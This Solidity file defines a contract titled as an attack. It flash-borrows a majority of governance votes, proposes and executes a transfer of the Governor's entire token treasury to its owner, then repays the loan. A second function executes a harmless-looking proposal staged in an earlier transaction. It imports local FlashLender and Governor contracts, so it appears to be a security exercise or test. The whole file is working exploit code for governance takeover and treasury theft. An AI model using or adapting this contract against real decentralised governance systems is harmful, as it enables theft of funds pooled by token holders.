// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {FlashBorrower, FlashLender} from "./FlashLender.sol";
import {Governor} from "./Governor.sol";
import {IERC20} from "./IERC20.sol";

/// @title Attack: borrows a majority of the votes, proposes that the treasury be its owner's, votes, executes, and
/// gives the votes back.
contract VoteBorrower is FlashBorrower {
    Governor private immutable governor;
    IERC20 private immutable loot;
    /// Behind the number of a proposal that was made before; 0 where one is made on the way.
    uint256 private madeBefore;

    constructor(FlashLender lender, Governor governor_, IERC20 loot_) FlashBorrower(lender) {
        governor = governor_;
        loot = loot_;
    }

    function attack(uint256 votes) external {
        borrowAndUse(governor.token(), votes);
    }

    /// What it proposed in a transaction before, which looks like nothing yet.
    function carryOut(uint256 id, uint256 votes) external {
        madeBefore = id + 1;
        borrowAndUse(governor.token(), votes);
    }

    function use(uint256) internal override {
        if (madeBefore > 0) {
            governor.vote(madeBefore - 1);
            governor.execute(madeBefore - 1);
            return;
        }
        bytes memory data = abi.encodeCall(IERC20.transfer, (owner, loot.balanceOf(address(governor))));
        uint256 id = governor.propose(address(loot), data);
        governor.vote(id);
        governor.execute(id);
    }
}
